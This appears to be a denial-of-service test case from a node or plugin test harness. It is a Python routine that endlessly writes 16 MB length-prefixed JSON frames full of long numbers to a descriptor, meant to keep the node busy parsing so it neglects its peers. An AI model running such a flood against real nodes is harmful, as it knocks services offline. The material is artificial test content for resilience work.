# family: frames-of-ours
# kind: dos
# tries: events that say next to nothing, in frames of 16 MB, each of which takes the node a tenth of a second to read
# success looks like: the node has no time for the neighbour, for minutes
def job(plugin):
  @LIBC@
  numbers = b','.join([b'123456789.1234567890123456789012345678901234567890123456789'] * 240000)
  body = b'{"did":"limit","name":"memory","x":[' + numbers + b']}'
  data = len(body).to_bytes(4, 'big') + body
  while True:
    rest = data
    while rest:
      rest = rest[os.write(3, rest):]
